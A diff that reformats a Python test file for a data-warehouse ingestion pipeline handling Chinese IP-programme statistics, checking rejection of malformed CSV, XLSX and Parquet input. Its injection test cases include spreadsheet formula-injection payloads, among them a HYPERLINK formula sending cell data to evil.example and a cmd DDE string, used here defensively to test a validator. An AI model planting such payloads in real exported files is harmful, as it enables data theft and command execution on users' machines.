@@ -29,10 +29,20 @@ TODAY = date(2026, 1, 15)
 
 _PLEDGE_ALL_MISSING = "; ".join(
     f"missing value in {c}"
-    for c in ("city_code", "month", "registrations", "amount_10k_yuan", "patents_pledged", "trademarks_pledged",
-              "enterprises_served", "first_time_borrowers")
+    for c in (
+        "city_code",
+        "month",
+        "registrations",
+        "amount_10k_yuan",
+        "patents_pledged",
+        "trademarks_pledged",
+        "enterprises_served",
+        "first_time_borrowers",
+    )
 )
-_CASE_TYPES = "patent_infringement_dispute, counterfeit_patent, trademark, ecommerce, trade_fair, geographical_indication, other"
+_CASE_TYPES = (
+    "patent_infringement_dispute, counterfeit_patent, trademark, ecommerce, trade_fair, geographical_indication, other"
+)
 
 
 @dataclass(frozen=True)
@@ -63,188 +73,379 @@ CASES = [
     Case("header-only-csv", "pledge_loans/header_only.csv", error="file has a header but no data rows"),
     Case("header-only-xlsx-with-title", "pledge_loans/header_only.xlsx", error="file has a header but no data rows"),
     Case("header-only-parquet", "enforcement_cases/header_only.parquet", error="file has a header but no data rows"),
-    Case("no-header-row", "training_events/no_header.csv",
-         error="no header row found in the first 15 rows: expected columns such as "
-               "event_id, city_code, event_date, audience, participants"),
-    Case("missing-required-column", "pledge_loans/missing_amount_column.csv",
-         error="missing required column(s): amount_10k_yuan (or 质押金额(万元) / 融资金额(万元))"),
-    Case("duplicate-header-via-alias", "pledge_loans/duplicate_header_alias.csv",
-         error="column 'registrations' appears twice (as '登记笔数' and another header)"),
-    Case("duplicate-header-exact", "pledge_loans/duplicate_header_exact.csv",
-         error=re.compile(r"column 'registrations' appears twice.*"),
-         bug="a header repeated verbatim is renamed registrations_duplicated_0 by Polars and its column silently "
-             "ignored (only a note), while the same clash via an alias fails the file"),
-    Case("invalid-bytes", "training_events/invalid_bytes.csv",
-         error="not valid UTF-8 or GBK text (byte 143): cannot decode"),
-    Case("mixed-utf8-and-gbk", "training_events/mixed_utf8_gbk.csv",
-         error=re.compile(r"(?s).*encoding.*line 3.*"),
-         bug="a file whose rows mix UTF-8 and GBK is decoded as GB18030 as a whole and the UTF-8 title "
-             "专利导航 is stored as mojibake 涓撳埄瀵艰埅 without any note or rejection"),
+    Case(
+        "no-header-row",
+        "training_events/no_header.csv",
+        error="no header row found in the first 15 rows: expected columns such as "
+        "event_id, city_code, event_date, audience, participants",
+    ),
+    Case(
+        "missing-required-column",
+        "pledge_loans/missing_amount_column.csv",
+        error="missing required column(s): amount_10k_yuan (or 质押金额(万元) / 融资金额(万元))",
+    ),
+    Case(
+        "duplicate-header-via-alias",
+        "pledge_loans/duplicate_header_alias.csv",
+        error="column 'registrations' appears twice (as '登记笔数' and another header)",
+    ),
+    Case(
+        "duplicate-header-exact",
+        "pledge_loans/duplicate_header_exact.csv",
+        error=re.compile(r"column 'registrations' appears twice.*"),
+        bug="a header repeated verbatim is renamed registrations_duplicated_0 by Polars and its column silently "
+        "ignored (only a note), while the same clash via an alias fails the file",
+    ),
+    Case(
+        "invalid-bytes",
+        "training_events/invalid_bytes.csv",
+        error="not valid UTF-8 or GBK text (byte 143): cannot decode",
+    ),
+    Case(
+        "mixed-utf8-and-gbk",
+        "training_events/mixed_utf8_gbk.csv",
+        error=re.compile(r"(?s).*encoding.*line 3.*"),
+        bug="a file whose rows mix UTF-8 and GBK is decoded as GB18030 as a whole and the UTF-8 title "
+        "专利导航 is stored as mojibake 涓撳埄瀵艰埅 without any note or rejection",
+    ),
     Case("truncated-xlsx", "pledge_loans/truncated.xlsx", error=re.compile(r"(?s)unreadable Excel file \(.*\)")),
     Case("csv-renamed-xlsx", "pledge_loans/csv_renamed.xlsx", error=re.compile(r"(?s)unreadable Excel file \(.*\)")),
-    Case("truncated-parquet", "enforcement_cases/truncated.parquet",
-         error=re.compile(r"(?s)unreadable Parquet file \(.*\)")),
-    Case("legacy-xls", "enforcement_cases/legacy_excel.xls",
-         error="unsupported file type '.xls' (use CSV, Parquet or XLSX)"),
+    Case(
+        "truncated-parquet",
+        "enforcement_cases/truncated.parquet",
+        error=re.compile(r"(?s)unreadable Parquet file \(.*\)"),
+    ),
+    Case(
+        "legacy-xls",
+        "enforcement_cases/legacy_excel.xls",
+        error="unsupported file type '.xls' (use CSV, Parquet or XLSX)",
+    ),
     # The file must fail; the wording is pinned by the xfail case below once it is fixed.
-    Case("truncated-inside-quotes", "training_events/truncated_in_quotes.csv",
-         error=re.compile(r"(?s)malformed CSV \(.*\)|.*quot.*")),
-    Case("truncated-inside-quotes-message", "training_events/truncated_in_quotes.csv",
-         error=re.compile(r"(?s)(?!.*infer_schema_length).*quot.*"),
-         bug="the reason is Polars' parser message advising to increase `infer_schema_length`, which means "
-             "nothing to an office user; it should say the file ends inside a quoted field (cut off)"),
+    Case(
+        "truncated-inside-quotes",
+        "training_events/truncated_in_quotes.csv",
+        error=re.compile(r"(?s)malformed CSV \(.*\)|.*quot.*"),
+    ),
+    Case(
+        "truncated-inside-quotes-message",
+        "training_events/truncated_in_quotes.csv",
+        error=re.compile(r"(?s)(?!.*infer_schema_length).*quot.*"),
+        bug="the reason is Polars' parser message advising to increase `infer_schema_length`, which means "
+        "nothing to an office user; it should say the file ends inside a quoted field (cut off)",
+    ),
     # ---------------------------------------------------------------- encodings
-    Case("gbk-chinese-headers-total-row", "pledge_loans/gbk_chinese_headers.csv",
-         loaded={2: {"city_code": "440300", "month": date(2025, 1, 1), "registrations": 12, "amount_10k_yuan": 5600.5},
-                 3: {"city_code": "320500", "month": date(2025, 2, 1), "registrations": 8, "amount_10k_yuan": 3100.0}},
-         rejected={4: "unknown region code in city_code: '合计'; missing value in month"},
-         raw_values={4: {"city_code": "合计", "registrations": "20"}},
-         notes=("decoded from gbk",)),
-    Case("gbk-chinese-enums", "training_events/gbk_chinese_enums.csv",
-         loaded={2: {"audience": "officials", "title": "知识产权强市建设专题培训"},
-                 3: {"audience": "schools", "participants": 120, "hours": 1.5, "title": "青少年知识产权普及"}},
-         notes=("decoded from gbk",)),
-    Case("utf8-bom-multiline-cell", "training_events/utf8_bom.csv",
-         loaded={2: {"event_date": date(2025, 3, 1), "audience": "enterprises", "title": "专利导航"},
-                 3: {"city_code": "330100", "audience": "service_agencies", "title": "商标代理\n实务"}},
-         rejected={4: "value below minimum in participants: 0 (min 1)"},
-         notes=("decoded from utf-8-sig",)),
-    Case("utf16-with-bom", "training_events/utf16_bom.csv",
-         loaded={2: {"audience": "enterprises", "title": "专利导航"}},
-         notes=("decoded from utf-16",),
-         bug="a UTF-16 file with a byte-order mark (Excel 'Unicode text') is unambiguous but is refused as "
-             "'not valid UTF-8 or GBK text (byte 0)'"),
-    Case("population-bom-fullwidth-brackets", "population/bom_fullwidth_headers.csv", partition=None,
-         loaded={2: {"region_code": "440000", "year": 2024, "population_10k": 12780.6, "gdp_100m_yuan": 141633.8,
-                     "source": "统计年鉴"}},
-         rejected={3: "value below minimum in population_10k: 0.0 (min 0.01)",
-                   4: "negative value in gdp_100m_yuan: -1.0 (min 0)",
-                   5: "not a whole number in year: 2024.5"},
-         notes=("decoded from utf-8-sig",)),
+    Case(
+        "gbk-chinese-headers-total-row",
+        "pledge_loans/gbk_chinese_headers.csv",
+        loaded={
+            2: {"city_code": "440300", "month": date(2025, 1, 1), "registrations": 12, "amount_10k_yuan": 5600.5},
+            3: {"city_code": "320500", "month": date(2025, 2, 1), "registrations": 8, "amount_10k_yuan": 3100.0},
+        },
+        rejected={4: "unknown region code in city_code: '合计'; missing value in month"},
+        raw_values={4: {"city_code": "合计", "registrations": "20"}},
+        notes=("decoded from gbk",),
+    ),
+    Case(
+        "gbk-chinese-enums",
+        "training_events/gbk_chinese_enums.csv",
+        loaded={
+            2: {"audience": "officials", "title": "知识产权强市建设专题培训"},
+            3: {"audience": "schools", "participants": 120, "hours": 1.5, "title": "青少年知识产权普及"},
+        },
+        notes=("decoded from gbk",),
+    ),
+    Case(
+        "utf8-bom-multiline-cell",
+        "training_events/utf8_bom.csv",
+        loaded={
+            2: {"event_date": date(2025, 3, 1), "audience": "enterprises", "title": "专利导航"},
+            3: {"city_code": "330100", "audience": "service_agencies", "title": "商标代理\n实务"},
+        },
+        rejected={4: "value below minimum in participants: 0 (min 1)"},
+        notes=("decoded from utf-8-sig",),
+    ),
+    Case(
+        "utf16-with-bom",
+        "training_events/utf16_bom.csv",
+        loaded={2: {"audience": "enterprises", "title": "专利导航"}},
+        notes=("decoded from utf-16",),
+        bug="a UTF-16 file with a byte-order mark (Excel 'Unicode text') is unambiguous but is refused as "
+        "'not valid UTF-8 or GBK text (byte 0)'",
+    ),
+    Case(
+        "population-bom-fullwidth-brackets",
+        "population/bom_fullwidth_headers.csv",
+        partition=None,
+        loaded={
+            2: {
+                "region_code": "440000",
+                "year": 2024,
+                "population_10k": 12780.6,
+                "gdp_100m_yuan": 141633.8,
+                "source": "统计年鉴",
+            }
+        },
+        rejected={
+            3: "value below minimum in population_10k: 0.0 (min 0.01)",
+            4: "negative value in gdp_100m_yuan: -1.0 (min 0)",
+            5: "not a whole number in year: 2024.5",
+        },
+        notes=("decoded from utf-8-sig",),
+    ),
     # ---------------------------------------------------------------- headers and layout
-    Case("extra-column", "pledge_loans/extra_column.csv",
-         loaded={2: {"city_code": "440300", "registrations": 3, "amount_10k_yuan": 100.0}},
-         notes=("ignored extra column(s): 备注",)),
-    Case("xlsx-title-rows-numeric-codes", "pledge_loans/title_rows_numeric_codes.xlsx",
-         loaded={4: {"city_code": "440300", "month": date(2025, 1, 1), "amount_10k_yuan": 100.5},
-                 6: {"city_code": "320500", "month": date(2025, 3, 1), "registrations": 3}},
-         rejected={5: "negative value in registrations: -5 (min 0)",
-                   7: "unknown region code in city_code: '合计'; missing value in month"},
-         notes=("skipped 2 title row(s) above the header",)),
-    Case("patent-stats-xlsx-float-codes", "patent_stats/numeric_codes.xlsx", partition=None,
-         loaded={2: {"region_code": "440000", "region_name": "广东省", "year": 2024, "grants_invention": 100000,
-                     "in_force_invention": 600000, "in_force_total": None}},
-         rejected={3: "absurd value in grants_invention: 1000000000 (max 5000000)",
-                   4: "not a whole number in grants_invention: 1.5",
-                   5: "negative value in grants_design: -5 (min 0)"}),
-    Case("truncated-mid-row", "pledge_loans/truncated_mid_row.csv",
-         loaded={2: {"month": date(2025, 1, 1), "registrations": 3},
-                 3: {"month": date(2025, 2, 1), "registrations": 4, "amount_10k_yuan": 200.0}},
-         rejected={4: "missing value in patents_pledged; missing value in trademarks_pledged; "
-                      "missing value in enterprises_served; missing value in first_time_borrowers; "
-                      "truncated row: file ends after 4 of 8 fields"},
-         raw_values={4: {"city_code": "440300", "amount_10k_yuan": "1", "patents_pledged": None}},
-         notes=("truncated last row (4 of 8 fields)",)),
-    Case("unquoted-thousands-separator", "pledge_loans/unquoted_thousands.csv",
-         rejected={2: re.compile(r".*9 fields.*8.*")},
-         bug="a row with more fields than the header (unquoted 12,345) is cut to the header's width by "
-             "truncate_ragged_lines, every value after the split shifts one column and the row loads as "
-             "amount 12, patents 345, trademarks 20 ..."),
-    Case("blank-lines", "pledge_loans/blank_lines.csv",
-         loaded={2: {"registrations": 3}},
-         rejected={4: "negative value in registrations: -5 (min 0)"},
-         bug="blank CSV lines (one in the middle, two at the end) are counted as rows and quarantined with "
-             "eight 'missing value' reasons each; XLSX skips blank rows. Expected: skipped, numbering kept"),
+    Case(
+        "extra-column",
+        "pledge_loans/extra_column.csv",
+        loaded={2: {"city_code": "440300", "registrations": 3, "amount_10k_yuan": 100.0}},
+        notes=("ignored extra column(s): 备注",),
+    ),
+    Case(
+        "xlsx-title-rows-numeric-codes",
+        "pledge_loans/title_rows_numeric_codes.xlsx",
+        loaded={
+            4: {"city_code": "440300", "month": date(2025, 1, 1), "amount_10k_yuan": 100.5},
+            6: {"city_code": "320500", "month": date(2025, 3, 1), "registrations": 3},
+        },
+        rejected={
+            5: "negative value in registrations: -5 (min 0)",
+            7: "unknown region code in city_code: '合计'; missing value in month",
+        },
+        notes=("skipped 2 title row(s) above the header",),
+    ),
+    Case(
+        "patent-stats-xlsx-float-codes",
+        "patent_stats/numeric_codes.xlsx",
+        partition=None,
+        loaded={
+            2: {
+                "region_code": "440000",
+                "region_name": "广东省",
+                "year": 2024,
+                "grants_invention": 100000,
+                "in_force_invention": 600000,
+                "in_force_total": None,
+            }
+        },
+        rejected={
+            3: "absurd value in grants_invention: 1000000000 (max 5000000)",
+            4: "not a whole number in grants_invention: 1.5",
+            5: "negative value in grants_design: -5 (min 0)",
+        },
+    ),
+    Case(
+        "truncated-mid-row",
+        "pledge_loans/truncated_mid_row.csv",
+        loaded={
+            2: {"month": date(2025, 1, 1), "registrations": 3},
+            3: {"month": date(2025, 2, 1), "registrations": 4, "amount_10k_yuan": 200.0},
+        },
+        rejected={
+            4: "missing value in patents_pledged; missing value in trademarks_pledged; "
+            "missing value in enterprises_served; missing value in first_time_borrowers; "
+            "truncated row: file ends after 4 of 8 fields"
+        },
+        raw_values={4: {"city_code": "440300", "amount_10k_yuan": "1", "patents_pledged": None}},
+        notes=("truncated last row (4 of 8 fields)",),
+    ),
+    Case(
+        "unquoted-thousands-separator",
+        "pledge_loans/unquoted_thousands.csv",
+        rejected={2: re.compile(r".*9 fields.*8.*")},
+        bug="a row with more fields than the header (unquoted 12,345) is cut to the header's width by "
+        "truncate_ragged_lines, every value after the split shifts one column and the row loads as "
+        "amount 12, patents 345, trademarks 20 ...",
+    ),
+    Case(
+        "blank-lines",
+        "pledge_loans/blank_lines.csv",
+        loaded={2: {"registrations": 3}},
+        rejected={4: "negative value in registrations: -5 (min 0)"},
+        bug="blank CSV lines (one in the middle, two at the end) are counted as rows and quarantined with "
+        "eight 'missing value' reasons each; XLSX skips blank rows. Expected: skipped, numbering kept",
+    ),
     # ---------------------------------------------------------------- types and ranges
-    Case("numbers", "pledge_loans/bad_numbers.csv",
-         loaded={2: {"month": date(2025, 1, 1), "amount_10k_yuan": 1234.5},
-                 8: {"city_code": "440300", "month": date(2025, 7, 1)}},
-         rejected={3: "not a number in registrations: 'n/a'",
-                   4: "not a whole number in registrations: 3.5",
-                   5: "negative value in registrations: -5 (min 0)",
-                   6: "absurd value in amount_10k_yuan: 900000000.0 (max 50000000)",
-                   7: "first_time_borrowers exceed enterprises_served"},
-         raw_values={3: {"registrations": "n/a", "month": "2025-02"}}),
-    Case("amount-in-yi-yuan", "pledge_loans/amount_in_yi_yuan.csv",
-         loaded={2: {"amount_10k_yuan": 15000.0}},
-         rejected={3: "absurd value in amount_10k_yuan: 60000000.0 (max 50000000)"},
-         notes=("converted amount_10k_yuan from another unit (x10000)",)),
-    Case("amount-in-yuan", "pledge_loans/amount_in_yuan.csv",
-         loaded={2: {"city_code": "320500", "amount_10k_yuan": pytest.approx(123.4567)}},
-         notes=("converted amount_10k_yuan from another unit (x0.0001)",)),
-    Case("ranges-codes-enums", "training_events/ranges_codes_enums.csv",
-         loaded={8: {"city_code": "440305"}, 9: {"city_code": "440000"}, 11: {"audience": "public"}},
-         rejected={2: "value below minimum in participants: 0 (min 1)",
-                   3: "absurd value in participants: 250000 (max 100000)",
-                   4: "value below minimum in hours: 0.2 (min 0.5)",
-                   5: "unknown region code in city_code: '999999'",
-                   6: "unknown region code in city_code: '44030'",
-                   7: "missing value in city_code",
-                   10: "unknown audience 'students' (allowed: officials, enterprises, service_agencies, schools, public)"}),
+    Case(
+        "numbers",
+        "pledge_loans/bad_numbers.csv",
+        loaded={
+            2: {"month": date(2025, 1, 1), "amount_10k_yuan": 1234.5},
+            8: {"city_code": "440300", "month": date(2025, 7, 1)},
+        },
+        rejected={
+            3: "not a number in registrations: 'n/a'",
+            4: "not a whole number in registrations: 3.5",
+            5: "negative value in registrations: -5 (min 0)",
+            6: "absurd value in amount_10k_yuan: 900000000.0 (max 50000000)",
+            7: "first_time_borrowers exceed enterprises_served",
+        },
+        raw_values={3: {"registrations": "n/a", "month": "2025-02"}},
+    ),
+    Case(
+        "amount-in-yi-yuan",
+        "pledge_loans/amount_in_yi_yuan.csv",
+        loaded={2: {"amount_10k_yuan": 15000.0}},
+        rejected={3: "absurd value in amount_10k_yuan: 60000000.0 (max 50000000)"},
+        notes=("converted amount_10k_yuan from another unit (x10000)",),
+    ),
+    Case(
+        "amount-in-yuan",
+        "pledge_loans/amount_in_yuan.csv",
+        loaded={2: {"city_code": "320500", "amount_10k_yuan": pytest.approx(123.4567)}},
+        notes=("converted amount_10k_yuan from another unit (x0.0001)",),
+    ),
+    Case(
+        "ranges-codes-enums",
+        "training_events/ranges_codes_enums.csv",
+        loaded={8: {"city_code": "440305"}, 9: {"city_code": "440000"}, 11: {"audience": "public"}},
+        rejected={
+            2: "value below minimum in participants: 0 (min 1)",
+            3: "absurd value in participants: 250000 (max 100000)",
+            4: "value below minimum in hours: 0.2 (min 0.5)",
+            5: "unknown region code in city_code: '999999'",
+            6: "unknown region code in city_code: '44030'",
+            7: "missing value in city_code",
+            10: "unknown audience 'students' (allowed: officials, enterprises, service_agencies, schools, public)",
+        },
+    ),
     # ---------------------------------------------------------------- dates
-    Case("dates", "training_events/dates.csv",
-         loaded={3: {"event_date": date(2025, 3, 5)}, 4: {"event_date": date(2025, 4, 1)},
-                 5: {"event_date": date(2025, 3, 7)}},
-         rejected={2: "not a date in event_date: '2025-13-45'",
-                   6: "not a date in event_date: 'next week'",
-                   7: "missing value in event_date"}),
-    Case("month-as-excel-serial", "pledge_loans/month_as_excel_serial.csv",
-         loaded={2: {"month": date(2025, 4, 1)}},
-         bug="the Excel serial 45748 (2025-04-01) in `month` is read by the %Y%m month format first, as "
-             "4574-08-01, and quarantined as a future date; event dates take the serial correctly"),
-    Case("future-date", "training_events/future_date_2026.csv", partition=2026,
-         loaded={2: {"event_date": date(2026, 1, 10), "year": 2026}},
-         rejected={3: "future date in event_date: 2026-03-01"}),
-    Case("outside-partition-year", "training_events/outside_partition_2025.csv",
-         loaded={2: {"event_date": date(2025, 12, 31), "year": 2025}},
-         rejected={3: "event_date 2024-12-31 outside partition year 2025"}),
-    Case("future-withdrawal-chinese-status", "programme_cities/chinese_statuses.csv", partition=None,
-         loaded={2: {"city_code": "440300", "status": "active", "unit_name": "深圳市"},
-                 3: {"city_code": "320500", "status": "rectification", "status_since": date(2024, 5, 1)}},
-         rejected={4: "future date in withdrawn_on: 2027-01-01",
-                   5: "unknown status '暂停' (allowed: active, rectification, withdrawn)"}),
-    Case("grants-enums-and-date-order", "patent_grants/chinese_enums_dates.csv",
-         loaded={2: {"patent_type": "invention", "applicant_type": "enterprise", "region_code": "440305",
-                     "hv_strategic_industry": True, "hv_overseas_family": False, "is_high_value": True,
-                     "applicant_name": "深圳某科技有限公司", "lapse_date": None, "year": 2025},
-                 3: {"patent_type": "utility_model", "applicant_type": "university", "ipc_main": None}},
-         rejected={4: "grant_date before application_date",
-                   5: "kind code U does not match patent type invention",
-                   6: "not a yes/no value in is_high_value: '也许'"}),
-    Case("targets-reversed-years-duplicate", "targets/reversed_years_duplicates.csv", partition=None,
-         loaded={2: {"indicator_code": "QLT01", "baseline_value": 100.5, "target_value": 150.0}},
-         rejected={3: "target_year not after baseline_year",
-                   4: "duplicate record: 440300/plan_2021_2025/QLT01 same as row 2"}),
+    Case(
+        "dates",
+        "training_events/dates.csv",
+        loaded={
+            3: {"event_date": date(2025, 3, 5)},
+            4: {"event_date": date(2025, 4, 1)},
+            5: {"event_date": date(2025, 3, 7)},
+        },
+        rejected={
+            2: "not a date in event_date: '2025-13-45'",
+            6: "not a date in event_date: 'next week'",
+            7: "missing value in event_date",
+        },
+    ),
+    Case(
+        "month-as-excel-serial",
+        "pledge_loans/month_as_excel_serial.csv",
+        loaded={2: {"month": date(2025, 4, 1)}},
+        bug="the Excel serial 45748 (2025-04-01) in `month` is read by the %Y%m month format first, as "
+        "4574-08-01, and quarantined as a future date; event dates take the serial correctly",
+    ),
+    Case(
+        "future-date",
+        "training_events/future_date_2026.csv",
+        partition=2026,
+        loaded={2: {"event_date": date(2026, 1, 10), "year": 2026}},
+        rejected={3: "future date in event_date: 2026-03-01"},
+    ),
+    Case(
+        "outside-partition-year",
+        "training_events/outside_partition_2025.csv",
+        loaded={2: {"event_date": date(2025, 12, 31), "year": 2025}},
+        rejected={3: "event_date 2024-12-31 outside partition year 2025"},
+    ),
+    Case(
+        "future-withdrawal-chinese-status",
+        "programme_cities/chinese_statuses.csv",
+        partition=None,
+        loaded={
+            2: {"city_code": "440300", "status": "active", "unit_name": "深圳市"},
+            3: {"city_code": "320500", "status": "rectification", "status_since": date(2024, 5, 1)},
+        },
+        rejected={
+            4: "future date in withdrawn_on: 2027-01-01",
+            5: "unknown status '暂停' (allowed: active, rectification, withdrawn)",
+        },
+    ),
+    Case(
+        "grants-enums-and-date-order",
+        "patent_grants/chinese_enums_dates.csv",
+        loaded={
+            2: {
+                "patent_type": "invention",
+                "applicant_type": "enterprise",
+                "region_code": "440305",
+                "hv_strategic_industry": True,
+                "hv_overseas_family": False,
+                "is_high_value": True,
+                "applicant_name": "深圳某科技有限公司",
+                "lapse_date": None,
+                "year": 2025,
+            },
+            3: {"patent_type": "utility_model", "applicant_type": "university", "ipc_main": None},
+        },
+        rejected={
+            4: "grant_date before application_date",
+            5: "kind code U does not match patent type invention",
+            6: "not a yes/no value in is_high_value: '也许'",
+        },
+    ),
+    Case(
+        "targets-reversed-years-duplicate",
+        "targets/reversed_years_duplicates.csv",
+        partition=None,
+        loaded={2: {"indicator_code": "QLT01", "baseline_value": 100.5, "target_value": 150.0}},
+        rejected={
+            3: "target_year not after baseline_year",
+            4: "duplicate record: 440300/plan_2021_2025/QLT01 same as row 2",
+        },
+    ),
     # ---------------------------------------------------------------- duplicates, codes, enums
-    Case("parquet-float-codes-duplicates", "enforcement_cases/typed_codes_duplicates.parquet",
-         loaded={1: {"case_id": "C001", "city_code": "440300", "case_type": "patent_infringement_dispute",
-                     "resolution": "mediation", "closed_date": date(2025, 4, 1)}},
-         rejected={2: "closed_date before filed_date",
-                   3: "unknown region code in city_code: '999999'",
-                   4: "duplicate record: C001 same as row 1",
-                   5: f"unknown case_type '民事纠纷' (allowed: {_CASE_TYPES})"}),
-    Case("duplicate-of-earlier-file", "enforcement_cases/second_batch.csv",
-         before=("enforcement_cases/first_batch.csv",),
-         loaded={3: {"case_id": "C003", "case_type": "trade_fair", "resolution": "withdrawn"}},
-         rejected={2: "duplicate record: key already loaded from file first_batch.csv"}),
+    Case(
+        "parquet-float-codes-duplicates",
+        "enforcement_cases/typed_codes_duplicates.parquet",
+        loaded={
+            1: {
+                "case_id": "C001",
+                "city_code": "440300",
+                "case_type": "patent_infringement_dispute",
+                "resolution": "mediation",
+                "closed_date": date(2025, 4, 1),
+            }
+        },
+        rejected={
+            2: "closed_date before filed_date",
+            3: "unknown region code in city_code: '999999'",
+            4: "duplicate record: C001 same as row 1",
+            5: f"unknown case_type '民事纠纷' (allowed: {_CASE_TYPES})",
+        },
+    ),
+    Case(
+        "duplicate-of-earlier-file",
+        "enforcement_cases/second_batch.csv",
+        before=("enforcement_cases/first_batch.csv",),
+        loaded={3: {"case_id": "C003", "case_type": "trade_fair", "resolution": "withdrawn"}},
+        rejected={2: "duplicate record: key already loaded from file first_batch.csv"},
+    ),
     # ---------------------------------------------------------------- injection and long text
-    Case("formula-injection-long-text", "training_events/injection_and_long_text.csv",
-         loaded={7: {"event_id": "E006", "title": "正常标题"}},
-         rejected={2: "formula-like text in title (possible spreadsheet injection): "
-                      "'=HYPERLINK(\"http://evil.example/?d=\"&A1,'",
-                   3: "formula-like text in title (possible spreadsheet injection): '+cmd|' /C calc'!A0'",
-                   4: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'",
-                   5: "text too long in title: 5000 characters (max 200)",
-                   6: "text too long in event_id: 41 characters (max 40)"}),
-    Case("formula-injection-xlsx-text-cells", "training_events/injection.xlsx",
-         loaded={4: {"title": "专利导航"}},
-         rejected={2: "formula-like text in title (possible spreadsheet injection): "
-                      "'=HYPERLINK(\"http://evil.example\",\"点击\")'",
-                   3: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'"}),
-    Case("formula-injection-leading-minus", "training_events/injection_minus.csv",
-         rejected={2: re.compile(r"formula-like text in title .*")},
-         bug="'-2+3+cmd|...' is a formula to Excel (OWASP CSV injection lists = + - @) but only = + @ are "
-             "checked, so it loads and reaches Excel extracts"),
+    Case(
+        "formula-injection-long-text",
+        "training_events/injection_and_long_text.csv",
+        loaded={7: {"event_id": "E006", "title": "正常标题"}},
+        rejected={
+            2: "formula-like text in title (possible spreadsheet injection): "
+            "'=HYPERLINK(\"http://evil.example/?d=\"&A1,'",
+            3: "formula-like text in title (possible spreadsheet injection): '+cmd|' /C calc'!A0'",
+            4: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'",
+            5: "text too long in title: 5000 characters (max 200)",
+            6: "text too long in event_id: 41 characters (max 40)",
+        },
+    ),
+    Case(
+        "formula-injection-xlsx-text-cells",
+        "training_events/injection.xlsx",
+        loaded={4: {"title": "专利导航"}},
+        rejected={
+            2: "formula-like text in title (possible spreadsheet injection): "
+            '\'=HYPERLINK("http://evil.example","点击")\'',
+            3: "formula-like text in title (possible spreadsheet injection): '@SUM(A1:A9)'",
+        },
+    ),
+    Case(
+        "formula-injection-leading-minus",
+        "training_events/injection_minus.csv",
+        rejected={2: re.compile(r"formula-like text in title .*")},
+        bug="'-2+3+cmd|...' is a formula to Excel (OWASP CSV injection lists = + - @) but only = + @ are "
+        "checked, so it loads and reaches Excel extracts",
+    ),
 ]
 
 
@@ -294,8 +495,10 @@ def test_bad_input(case: Case, warehouse, tmp_path):
         assert _one(con, f"SELECT count(*) FROM {source.table} WHERE _source_file = ?", [name]) == (0,)
         assert _one(con, "SELECT count(*) FROM raw.rejected_rows WHERE file_name = ?", [name]) == (0,)
         assert _one(
-            con, "SELECT status, message, rows_read, rows_loaded, rows_rejected FROM raw.ingested_files "
-            "WHERE source = ? AND file_name = ?", [source.name, name]
+            con,
+            "SELECT status, message, rows_read, rows_loaded, rows_rejected FROM raw.ingested_files "
+            "WHERE source = ? AND file_name = ?",
+            [source.name, name],
         ) == ("failed", err.reason, 0, 0, 0)
         return
 
@@ -303,16 +506,20 @@ def test_bad_input(case: Case, warehouse, tmp_path):
     assert result.status == "loaded"
     assert list(result.notes) == list(case.notes)
 
-    rejected = dict(con.execute(
-        "SELECT row_number, reason FROM raw.rejected_rows WHERE source = ? AND file_name = ? ORDER BY row_number",
-        [source.name, name],
-    ).fetchall())
+    rejected = dict(
+        con.execute(
+            "SELECT row_number, reason FROM raw.rejected_rows WHERE source = ? AND file_name = ? ORDER BY row_number",
+            [source.name, name],
+        ).fetchall()
+    )
     assert rejected.keys() == case.rejected.keys(), rejected
     for row, reason in case.rejected.items():
         assert _matches(reason, rejected[row]), (row, rejected[row])
 
     for row, expected in case.raw_values.items():
-        (text,) = _one(con, "SELECT raw_values FROM raw.rejected_rows WHERE file_name = ? AND row_number = ?", [name, row])
+        (text,) = _one(
+            con, "SELECT raw_values FROM raw.rejected_rows WHERE file_name = ? AND row_number = ?", [name, row]
+        )
         kept = json.loads(text)
         assert {k: kept[k] for k in expected} == expected
 
@@ -326,8 +533,10 @@ def test_bad_input(case: Case, warehouse, tmp_path):
     n_loaded, n_rejected = len(case.loaded), len(case.rejected)
     assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (n_loaded + n_rejected, n_loaded, n_rejected)
     assert _one(
-        con, "SELECT status, rows_read, rows_loaded, rows_rejected, message FROM raw.ingested_files "
-        "WHERE source = ? AND file_name = ?", [source.name, name]
+        con,
+        "SELECT status, rows_read, rows_loaded, rows_rejected, message FROM raw.ingested_files "
+        "WHERE source = ? AND file_name = ?",
+        [source.name, name],
     ) == ("loaded", n_loaded + n_rejected, n_loaded, n_rejected, "; ".join(case.notes))
 
 
@@ -366,12 +575,13 @@ def test_fixed_file_with_the_same_name_replaces_the_failed_attempt(warehouse, tm
     with pytest.raises(IngestError):
         _ingest(warehouse, tmp_path, f"training_events/{name}", 2025)
     fixed = tmp_path / "landing" / "training_events" / name
-    fixed.write_bytes(fixed.read_bytes() + "培训\"\n".encode())
+    fixed.write_bytes(fixed.read_bytes() + '培训"\n'.encode())
     result = ingest_file(warehouse, SOURCES["training_events"], fixed, partition=2025, today=TODAY)
     assert (result.rows_read, result.rows_loaded, result.rows_rejected) == (2, 2, 0)
-    assert warehouse.execute(
-        "SELECT event_id, title FROM raw.training_events ORDER BY event_id").fetchall() == [
-        ("E001", "专利导航"), ("E002", "知识产权培训")]
+    assert warehouse.execute("SELECT event_id, title FROM raw.training_events ORDER BY event_id").fetchall() == [
+        ("E001", "专利导航"),
+        ("E002", "知识产权培训"),
+    ]
     assert warehouse.execute(
         "SELECT status FROM raw.ingested_files WHERE file_name = ? ORDER BY ingested_at", [name]
     ).fetchall() == [("replaced",), ("loaded",)]
@@ -393,5 +603,6 @@ def test_region_codes_cannot_be_checked_before_cities_are_loaded(tmp_path):
 
 def test_missing_cities_failure_is_in_the_ledger(tmp_path):
     con, err = _no_cities(tmp_path)
-    assert con.execute("SELECT status, message FROM raw.ingested_files WHERE file_name = 'bad_numbers.csv'").fetchall() == [
-        ("failed", err.reason)]
+    assert con.execute(
+        "SELECT status, message FROM raw.ingested_files WHERE file_name = 'bad_numbers.csv'"
+    ).fetchall() == [("failed", err.reason)]
